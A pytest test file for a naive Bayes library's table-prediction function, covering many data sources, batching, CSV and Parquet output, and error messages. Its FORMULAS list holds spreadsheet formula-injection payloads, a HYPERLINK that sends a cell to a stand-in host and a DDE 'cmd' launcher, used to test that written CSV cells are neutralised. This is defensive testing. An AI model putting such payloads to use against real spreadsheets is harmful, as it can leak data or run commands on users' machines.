"""Predictions of tables, by blocks, are those of rows in memory; a file of them is whole, or is not there.

Labels in CSV files: a spreadsheet takes them for text, our reader for what they were, and numbers stay numbers.
"""

import csv
import io
import re
import warnings

import numpy as np
import pandas as pd
import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st
from numpy.testing import assert_allclose, assert_array_equal

import bayesnb as nb
from bayesnb.compute.arrays import _limits as limits
from bayesnb.tables.files._predictions import table_file
from bayesnb.tables.files.sources._csv import STARTS, as_read, as_written, line
from bayesnb.tables.files.sources._paths import as_pandas, open_data
from tests.reading import frame_of
from tests.tables.files.engines.tables import ENGINES, QUIET, make_table, query

FORMULAS = ['=HYPERLINK("http://x.y/?"&A1,"a;b")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\rx", " =1", "＝1",
            "'=x", "''@x", "-inf", "=1\r\n=2"]  # fmt: skip
OTHERS = ["'tis", "''", "'", "a=b", "-1", "+3.5", "-1e-7", "'-1", "1;2", 'say "no"', "a\rb", "x'=y"]


def write_table(path, columns):
    table = pa.table(columns)
    with table_file(path, table.schema) as write:
        write(table.combine_chunks().to_batches()[0])


def test_formulas_get_an_apostrophe_and_nothing_else_does():
    assert [as_written(text) for text in FORMULAS] == [f"'{text}" for text in FORMULAS]
    assert [as_written(text) for text in OTHERS] == OTHERS


@pytest.mark.slow
@given(st.text() | st.text("'=-+@1 \t\rx", max_size=6))
def test_reading_undoes_writing_and_no_formula_is_left(text):
    written = as_written(text)
    assert as_read(written) == text
    assert written[:1] not in (*STARTS, "\t", "\r", " ") or not written or np.isfinite(float(written))


def test_numbers_and_separators():
    assert line([-1, 0.5, -1e-7, np.float64(2.5).item(), True, None]) == "-1,0.5,-1e-07,2.5,True,None\n"
    assert line(["a;b", "a,b", 'a"b', "=a\tb"]) == '"a;b","a,b","a""b","\'=a\tb"\n'


@pytest.mark.parametrize("classes", [FORMULAS, OTHERS, ["a;b;c", "d;e;f"], ["a\tb\tc", "a\rb"]])
def test_predictions_are_read_back_to_the_same_labels(classes, tmp_path):
    write_table(tmp_path / "out.csv", {"prediction": classes} | dict(zip(classes, np.eye(len(classes)), strict=True)))
    data = open_data(str(tmp_path / "out.csv"))
    (batch,) = data.batches(data.names, {"prediction"})
    frame = as_pandas(batch)
    assert frame["prediction"].tolist() == classes
    assert np.trace(frame.iloc[:, 1:].to_numpy(float)) == len(classes)
    text = (tmp_path / "out.csv").read_bytes().decode()
    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))]
    assert {cell for cell in cells if cell.startswith(tuple(STARTS))} <= {"-1", "+3.5", "-1e-7"}


def test_labels_that_are_numbers_stay_numbers(tmp_path):
    write_table(tmp_path / "out.csv", {"prediction": [-1, 1], "p(-1)": [1.0, 0.0], "p(1)": [0.0, 1.0]})
    assert (tmp_path / "out.csv").read_text() == "prediction,p(-1),p(1)\n-1,1,0\n1,0,1\n"
    assert frame_of(tmp_path / "out.csv")["prediction"].tolist() == [-1.0, 1.0]


ROWS = 400


def frame_of_rows():
    rng = np.random.default_rng(5)
    y = rng.choice(["no", "so", "yes"], ROWS)
    frame = pd.DataFrame(
        {
            "id": [f"{i:05d}" for i in range(ROWS)],
            "height": (rng.normal(size=ROWS) + (y == "yes")).round(3),
            "colour": np.where(rng.random(ROWS) < 0.5, y, rng.choice(["red", "=1+1", "b,lue"], ROWS)),
            "flag": rng.random(ROWS) < 0.3 + 0.4 * (y == "so"),
            "number": 2**60 + np.arange(ROWS),
            "label": y,
        }
    )
    frame.loc[rng.random(ROWS) < 0.1, "height"] = np.nan
    frame.loc[rng.random(ROWS) < 0.1, "colour"] = None
    return frame


FRAME = frame_of_rows()
USED = ["height", "colour", "flag"]
CLF = nb.NaiveBayesClassifier(temper=False).fit(FRAME[USED], FRAME["label"])
MLE = nb.NaiveBayesClassifier(method="mle").fit(FRAME[USED], FRAME["label"])
NEW = FRAME.sample(frac=1.0, random_state=0).assign(colour=lambda f: f["colour"].where(f.index % 7 > 0, "new"))
PROBA = ["p(no)", "p(so)", "p(yes)"]


@pytest.fixture(autouse=True)
def small_batches(monkeypatch):
    """Batches of a few rows."""
    monkeypatch.setattr(limits, "BATCH_BYTES", 8 * 5 * 30)
    monkeypatch.setattr(limits, "CSV_BLOCK_BYTES", 1500)


def check(found, frame=NEW, clf=CLF):
    assert list(found.columns) == ["id", "prediction", *PROBA]
    assert found["id"].tolist() == frame["id"].tolist()
    assert_allclose(found[PROBA].to_numpy(), clf.predict_proba(frame[USED]), rtol=1e-12)
    assert_array_equal(found["prediction"], clf.predict(frame[USED]))


@pytest.mark.filterwarnings("ignore:the rows have columns")
@pytest.mark.parametrize("written", ["csv", "parquet"])
@pytest.mark.parametrize("read", ["csv", "parquet", "pandas", "polars", "pyarrow", "lazy", "stream", "folder", "list"])
def test_any_source_to_any_file(read, written, tmp_path):
    arrow, halves = pa.Table.from_pandas(NEW, preserve_index=False), (NEW[:150], NEW[150:])
    frames = {"pandas": NEW, "polars": pl.from_pandas(NEW), "pyarrow": arrow, "lazy": pl.from_pandas(NEW).lazy()}
    frames |= {"stream": arrow.to_reader(70), "list": [*halves], "folder": tmp_path / "rows"}
    rows = frames.get(read, tmp_path / f"rows.{read}")
    if read in ("csv", "parquet"):
        NEW.to_csv(rows, index=False) if read == "csv" else NEW.to_parquet(rows)
    if read == "folder":
        rows.mkdir()
        for number, half in enumerate(halves):
            half.to_parquet(rows / f"{number}.parquet")
    out = tmp_path / f"out.{written}"
    assert nb.predict_table(CLF, rows, keep=["id"], to=out) == ROWS
    check(pd.read_csv(out, dtype={"id": str}) if written == "csv" else pd.read_parquet(out))
    if written == "parquet":
        assert pq.ParquetFile(out).num_row_groups > 1


@pytest.mark.filterwarnings("ignore:the rows have columns")
def test_without_a_file_a_frame_of_the_same_library_comes_back(tmp_path):
    found = nb.predict_table(CLF, NEW, keep="id")
    check(found)
    assert_array_equal(found.index, NEW.index)
    for rows, kind in ((pl.from_pandas(NEW), pl.DataFrame), (pa.Table.from_pandas(NEW), pa.Table)):
        found = nb.predict_table(CLF, rows, keep=["id"])
        assert isinstance(found, kind)
        check(pd.DataFrame({name: found[name].to_numpy() for name in ["id", "prediction", *PROBA]}))
    NEW.to_parquet(tmp_path / "rows.parquet")
    found = nb.predict_table(CLF, tmp_path / "rows.parquet", keep=["id"])
    assert isinstance(found, pa.Table)
    check(found.to_pandas())


@pytest.mark.filterwarnings("ignore::UserWarning")  # of columns that are left out
@pytest.mark.parametrize("engine", ENGINES)
def test_the_rows_of_a_query_are_read_in_every_engine(engine, tmp_path):
    """Missing cells, unknown categories, dependence and words as in memory; an Arrow table comes back, or a file."""
    table, new = make_table(400), make_table(300, seed=2)
    new = new.set_column(new.column_names.index("id"), "id", [range(300)])
    new = new.set_column(new.column_names.index("many"), "many", [["unknown", *new["many"].to_pylist()[1:]]])
    clf = nb.fit_table(table, "label", {"id": "skip", "number": "skip", "text": "words"}, dependence="aode")
    rows = query(engine, new.drop_columns(["label"]), tmp_path)
    found = nb.predict_table(clf, rows, keep=["id", "text"])
    assert isinstance(found, pa.Table)
    found = found.sort_by("id")
    wanted = new.drop_columns(["label"]).to_pandas()
    assert_allclose(np.column_stack(found.columns[3:]), clf.predict_proba(wanted), rtol=0, atol=1e-9)
    assert found["prediction"].to_pylist() == clf.predict(wanted).tolist()
    assert found["text"].to_pylist() == new["text"].to_pylist()
    assert nb.predict_table(clf, rows, keep="id", to=tmp_path / "out.parquet", where="here") == 300
    written = pq.read_table(tmp_path / "out.parquet").sort_by("id")
    assert written["prediction"].to_pylist() == found["prediction"].to_pylist()


@QUIET
def test_partitions_are_computed_one_after_the_other():
    """While rows of one are predicted at most two more have been computed: memory does not grow with their number."""
    dask, delayed = (
        pytest.importorskip("dask.dataframe", reason="Dask is an extra"),
        pytest.importorskip("dask").delayed,
    )
    seen: list[int] = []

    def part(place):
        seen.append(place)
        return NEW[["id", *USED]]

    rows = dask.from_delayed([delayed(part)(place) for place in range(20)], meta=NEW[["id", *USED]])

    class Out(io.StringIO):
        def write(self, text):
            ahead.append(len(seen))
            return super().write(text)

    ahead: list[int] = []
    assert nb.predict_table(CLF, rows, keep="id", to=Out()) == 20 * ROWS
    assert ahead[1] <= 4 < ahead[-1] == len(seen) == 20


@pytest.mark.filterwarnings("ignore:the rows have columns")
def test_a_query_is_closed_where_a_cell_is_refused():
    duckdb = pytest.importorskip("duckdb", reason="DuckDB is an extra")
    connection = duckdb.connect()
    connection.register("rows", pa.Table.from_pandas(NEW, preserve_index=False))
    check(nb.predict_table(CLF, connection.sql("select * from rows"), keep=["id"], where="here").to_pandas())
    query = "select * replace (if(id = '00350', 'inf', height) as height) from rows, range(50)"
    with pytest.raises(ValueError, match=r"the query, row [\d,]+: column 'height' holds an infinite number") as error:
        nb.predict_table(CLF, connection.sql(query), where="here")
    assert connection.sql("select count(*) from rows").fetchall() == [(ROWS,)], error  # a reading that goes on locks it


@pytest.mark.slow
@pytest.mark.filterwarnings("ignore:the rows have columns")
def test_how_robust_each_prediction_is(tmp_path):
    clf = nb.NaiveBayesClassifier({"height": "skip"}, temper=False).fit(FRAME[USED], FRAME["label"])
    found = nb.predict_table(clf, NEW, keep=["id"], robustness=True)
    assert_allclose(found[PROBA].to_numpy(), clf.predict_proba(NEW[USED]), rtol=1e-12)
    assert_allclose(found["s_star"], clf.robustness(NEW[USED]), rtol=1e-9)
    nb.predict_table(clf, NEW, to=tmp_path / "out.csv", robustness=True)
    assert_allclose(pd.read_csv(tmp_path / "out.csv")["s_star"], found["s_star"], rtol=1e-12)


@pytest.mark.filterwarnings("ignore:the rows have columns")
def test_kept_columns_have_their_own_types_and_values(tmp_path):
    kept = ["number", "height", "colour", "flag"]
    found = nb.predict_table(CLF, NEW, keep=[*kept, "number"])
    pd.testing.assert_frame_equal(found[kept], NEW[kept], check_dtype=False)
    assert found["number"].dtype == np.int64  # which float64 would round
    nb.predict_table(CLF, NEW, keep=kept, to=tmp_path / "out.csv")
    cells = pd.read_csv(tmp_path / "out.csv", dtype=str, keep_default_na=False)
    assert cells["number"].tolist() == NEW["number"].astype(str).tolist()
    assert cells["colour"].tolist() == NEW["colour"].fillna("").replace("=1+1", "'=1+1").tolist()
    assert {*cells["flag"]} == {"True", "False"}
    NEW.to_csv(tmp_path / "rows.csv", index=False)
    found = nb.predict_table(CLF, tmp_path / "rows.csv", keep=["number", "height", "flag"])
    assert found["number"].to_pylist() == NEW["number"].astype(str).tolist()
    assert_array_equal(np.array(found["height"].to_pylist(), float), NEW["height"])


def test_dictionaries_views_and_columns_of_nothing_are_kept(tmp_path):
    columns = {"coded": pa.array(["a", None] * 2).dictionary_encode(), "none": pa.nulls(4)}
    columns |= {"view": pa.array(["x", "=y", None, "z"], pa.string_view()), "height": [1.0, 2.0, 3.0, 4.0]}
    table = pa.table(columns)
    clf = nb.NaiveBayesClassifier("normal", method="posterior").fit(
        pd.DataFrame({"height": [1.0, 2.0, 4.0]}), [0, 1, 1]
    )
    found = nb.predict_table(clf, table, keep=["coded", "none", "view"])
    for name in ("coded", "none", "view"):
        assert found[name].to_pylist() == table[name].to_pylist()
    assert found["prediction"].type == pa.int64()
    nb.predict_table(clf, table, keep=["coded", "none", "view"], to=tmp_path / "out.csv")
    assert (tmp_path / "out.csv").read_text().splitlines()[2].startswith(",,'=y,")


@pytest.mark.filterwarnings("ignore:the rows have columns", "ignore:do not trust these draws")
@pytest.mark.parametrize("method", ["default", pytest.param("nuts", marks=pytest.mark.slow), "map"])
def test_all_methods_and_costs(method):
    few = {"num_samples": 20, "random_state": 0} if method == "nuts" else {}
    clf = nb.NaiveBayesClassifier(method=method, **few).fit(FRAME[USED], FRAME["label"])
    check(nb.predict_table(clf, NEW, keep=["id"]), clf=clf)
    costs = {"yes": {"no": 5.0, "so": 9.0}}
    found = nb.predict_table(clf, NEW, costs=costs)["prediction"]
    assert_array_equal(found, clf.predict(NEW[USED], costs=costs))
    assert (found != clf.predict(NEW[USED])).any()


@pytest.mark.parametrize("ending", ["csv", "parquet"])
def test_half_written_files_do_not_stay(ending, tmp_path):
    out = tmp_path / f"out.{ending}"
    out.write_text("before")
    bad = NEW.assign(height=NEW["height"].where(np.arange(ROWS) != 350, np.inf))
    with pytest.raises(ValueError, match="the data frame, row 351: column 'height' holds an infinite number"):
        nb.predict_table(CLF, bad[USED], to=out)
    assert out.read_text() == "before"
    assert [path.name for path in tmp_path.iterdir()] == [out.name]


def test_only_columns_that_are_not_kept_are_reported():
    with pytest.warns(UserWarning, match="are left out: 'number'$"):  # 'label' was the target of the fit
        nb.predict_table(CLF, NEW, keep=["id"])
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        nb.predict_table(CLF, NEW[["id", *USED]], keep=["id"])


@pytest.mark.parametrize(
    ("options", "words"),
    [
        ({"keep": ["Id"]}, "keep names the column 'Id', which the data frame does not have; did you mean 'id'?"),
        ({"keep": ["zzz"]}, "does not have; its columns are 'id', 'height'"),
        ({"keep": ["p(no)"]}, "keep names the column 'p(no)', as a column of the predictions is called: rename it"),
        (
            {"keep": ["lists"], "to": "out.csv"},
            "column 'lists' holds list<item: int64>, which CSV does not: write .parquet",
        ),
        ({"to": "out.xlsx"}, "a .csv or a .parquet file, and 'out.xlsx' is neither"),
        ({"to": "no/out.csv"}, "'no/out.csv' cannot be written"),
        ({"to": 3}, "to must be a path, or a text file that is open, got 3"),
        ({"source": FRAME[["id", "flag"]]}, "the rows have no column 'height', 'colour', which the model was fitted"),
        (
            {"source": FRAME.assign(height="tall")},
            "the data frame, row 1: column 'height' holds text, 'tall', and the model was fitted to num",
        ),
        ({"source": {"height": [1.0]}}, "or a list of them, got a dict: fit arrays"),
        ({"source": pl.LazyFrame({"height": [1.0]})}, "the rows have no column 'colour', 'flag', which the model was"),
        ({"source": "nowhere.csv"}, "there is no file 'nowhere.csv'"),
        ({"source": "rows.csv", "to": "rows.csv"}, "'rows.csv' holds the rows, and would be overwritten"),
        ({"robustness": True, "costs": np.eye(3)}, "not of the decision of least cost: give one of the two"),
        (
            {"where": "engine", "source": pl.from_pandas(NEW[USED]).lazy()},
            "where is 'here' or None, got 'engine': predictions are made here, of rows that are read block by block",
        ),
        ({"robustness": True, "to": "out.csv"}, "known for tables of categories, Bernoulli, Categorical and Histogram"),
        ({"robustness": True, "classifier": MLE, "to": "out.csv"}, "only an exact posterior says"),
        (
            {"robustness": True, "keep": ["s_star"], "source": NEW.assign(s_star=1)},
            "keep names the column 's_star', as",
        ),
        ({"classifier": CLF.fit_}, "expected a fitted NaiveBayesClassifier, got a Posterior"),
        ({"classifier": nb.NaiveBayesClassifier()}, "is not fitted yet"),
        (
            {"classifier": nb.NaiveBayesClassifier("normal").fit(np.eye(4), [0, 1, 1, 0])},
            "fitted to an array, whose columns have no names: give an array to predict_proba",
        ),
    ],
)
def test_mistakes_are_one_sentence(options, words, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    FRAME.to_csv("rows.csv", index=False)
    rows = NEW.assign(lists=[[1]] * ROWS).rename(columns={"number": "p(no)"})
    call = {"classifier": CLF, "source": rows} | options
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with pytest.raises(ValueError, match=re.escape(words)) as error:
            nb.predict_table(**call)
    assert "\n" not in str(error.value)
    assert [path.name for path in tmp_path.iterdir()] == ["rows.csv"]
